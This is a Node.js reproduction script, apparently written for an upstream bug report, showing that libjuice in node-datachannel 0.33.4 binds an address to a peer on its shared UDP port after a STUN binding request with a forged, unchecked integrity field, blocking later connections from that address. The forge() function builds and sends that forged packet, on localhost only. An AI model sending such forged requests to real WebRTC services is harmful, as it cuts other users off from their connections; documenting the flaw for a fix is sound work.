/**
 * libjuice of node-datachannel 0.33.4, one UDP port for all peers: a binding request that names one of them, without a valid integrity, ties the
 * address and port that it comes from to that peer for as long as it lives. Who connects to another one from there is not heard.
 * The address would have to be tied once the integrity is found to be right (RFC 8445, 7.3).
 *
 *   node docs/upstream/libjuice-mux-address.mjs
 */
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { setTimeout } from 'node:timers/promises'
import native from 'node-datachannel'

const mux = await freePort()
const far = await freePort()
const peers = []

for (const step of ['first', 'after a forged check from its address', 'after the peer that was named is closed']) {
  if (step.startsWith('after a forged')) await forge(offer(true))
  if (step.endsWith('closed')) await close(peers.splice(0))
  console.log(step, await connects())
}
await close(peers)

function peer (options) {
  return new native.PeerConnection('', { iceServers: [], bindAddress: '127.0.0.1', ...options })
}

/** A peer on the one port that has made its offer. */
function offer (isKept) {
  const offerer = peer({ enableIceUdpMux: true, portRangeBegin: mux, portRangeEnd: mux })
  const channel = offerer.createDataChannel('')
  const { sdp } = offerer.localDescription()
  if (isKept) peers.push([offerer, channel])
  return { offerer, channel, sdp }
}

/** Whether a far end at the one address connects within 3 s. */
async function connects () {
  const { offerer, channel, sdp } = offer()
  const answerer = peer({ portRangeBegin: far, portRangeEnd: far })
  const connected = new Promise(resolve => answerer.onStateChange(state => { if (state === 'connected') resolve('connects') }))
  answerer.setRemoteDescription(sdp, 'offer')
  offerer.setRemoteDescription(answerer.localDescription().sdp, 'answer')
  const outcome = await Promise.race([connected, setTimeout(3000, 'does not connect')])
  await close([[answerer], [offerer, channel]])
  return outcome
}

async function close (pairs) {
  for (const [connection, channel] of pairs) {
    channel?.close()
    connection.close()
  }
  await setTimeout(500)
}

async function forge ({ sdp }) {
  const username = Buffer.from(`${/ice-ufrag:(\S+)/.exec(sdp)[1]}:abcd`)
  const attributes = Buffer.concat([Buffer.from([0, 6, 0, username.length]), username, Buffer.alloc(-username.length & 3), Buffer.from([0, 8, 0, 20]), Buffer.alloc(20)])
  const header = Buffer.from([0, 1, 0, attributes.length, 0x21, 0x12, 0xa4, 0x42, ...Buffer.alloc(12)])
  const socket = createSocket('udp4').bind(far, '127.0.0.1')
  await once(socket, 'listening')
  socket.send(Buffer.concat([header, attributes]), mux, '127.0.0.1')
  await setTimeout(500)
  socket.close()
}

async function freePort () {
  const socket = createSocket('udp4').bind(0, '127.0.0.1')
  await once(socket, 'listening')
  const { port } = socket.address()
  socket.close()
  return port
}
